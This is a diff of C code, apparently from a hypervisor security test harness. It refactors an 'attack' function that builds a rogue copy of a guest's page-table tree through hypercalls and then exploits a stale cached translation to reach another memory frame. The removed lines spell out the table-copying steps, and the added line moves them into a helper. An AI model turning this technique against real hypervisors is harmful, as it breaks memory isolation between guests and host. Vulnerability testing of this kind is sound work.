@@ -15,10 +15,8 @@
 
 static int attack(void)
 {
-    volatile uint64_t *p, *copy[5];
+    volatile uint64_t *p;
     unsigned long va, x, y, newt[5], old[5];
-    unsigned int i;
-    int level;
     long rc;
 
     va = hx_scratch(0);
@@ -27,28 +25,9 @@ static int attack(void)
     p = (volatile uint64_t *)va;
     x = hx_virt_to_mfn(va);
     y = hx_virt_to_mfn(hx_scratch(1));
-    /* The new tree lives in scratch pages 3 (L1) to 6 (L4). */
-    for (level = 1; level <= 4; level++) {
-        old[level] = hx_table_mfn(va, level);
-        copy[level] = (volatile uint64_t *)hx_scratch(2 + level);
-        newt[level] = hx_virt_to_mfn(hx_scratch(2 + level));
-        for (i = 0; i < 512; i++)
-            copy[level][i] = hx_table(old[level])[i];
-    }
-    /* Each copy points at the next copy down; the L1 maps the scratch address to Y and the copies read-only. */
-    for (level = 2; level <= 4; level++)
-        copy[level][hx_index(va, level)] = (newt[level - 1] << 12) | HX_RW;
-    copy[1][hx_index(va, 1)] = (y << 12) | HX_RW;
-    for (level = 1; level <= 4; level++)
-        copy[1][hx_index(hx_scratch(2 + level), 1)] = (newt[level] << 12) | HX_RO;
-    for (level = 1; level <= 4; level++) {
-        rc = hx_update_va_mapping(hx_scratch(2 + level), (newt[level] << 12) | HX_RO, UVMF_INVLPG);
-        if (rc != 0)
-            return hx_setup_failed("could not map a new table read-only", rc);
-    }
-    rc = hx_mmuext1(MMUEXT_PIN_L4_TABLE, newt[4], 0);
-    if (rc != 0)
-        return hx_setup_failed("could not pin the new L4", rc);
+    /* The new tree, in which the scratch address maps Y. */
+    if ((rc = hx_stale_copy_tree(va, y, old, newt)))
+        return (int)rc;
     /* Use X under the old root, so that the translation is cached. */
     if ((rc = hx_stale_first(p)))
         return (int)rc;
